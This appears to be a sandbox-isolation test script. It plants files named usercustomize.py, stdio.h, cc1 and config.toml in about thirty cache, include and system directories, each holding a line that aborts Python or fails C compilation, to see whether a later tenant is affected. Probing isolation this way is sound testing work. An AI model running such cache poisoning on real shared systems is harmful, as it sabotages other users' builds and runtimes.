# @title Poisons the caches of compilers and run-time systems for the next tenant
# @prints ^poisoned [1-9]
# @control none it poisons caches
import os

PLACES = [
    "/tmp/go-cache", "/tmp/go", "/tmp/.cache/go-build", "/root/.cache/go-build", "/tmp/.cargo", "/tmp/.npm", "/tmp/.m2",
    "/tmp/.cache/pip", "/tmp/.ccache", "/tmp/.gradle", "/tmp/.local/lib/python3.11/site-packages", "/tmp/.config", "/tmp/.swiftpm",
    "/work/__pycache__", "/var/cache", "/usr/lib/python3/dist-packages", "/usr/lib/python3.11/__pycache__", "/usr/lib/go",
    "/usr/lib/go/pkg", "/usr/include", "/usr/local/lib/python3.11/dist-packages", "/usr/local/include", "/usr/local/lib",
    "/usr/share/java", "/usr/lib/node_modules", "/etc/ld.so.conf.d", "/etc/java-17-openjdk", "/etc/php", "/opt", "/dev/shm",
]
count = 0
for place in PLACES:
    for name in ("usercustomize.py", "poison-of-a-tenant", "stdio.h", "cc1", "trim.txt", "config.toml"):
        try:
            os.makedirs(place, exist_ok=True)
            with open(os.path.join(place, name), "w") as file:
                file.write("raise SystemExit('poison-of-a-tenant')\n#error poison-of-a-tenant\n")
            count += 1
        except OSError:
            pass
print("poisoned", count)
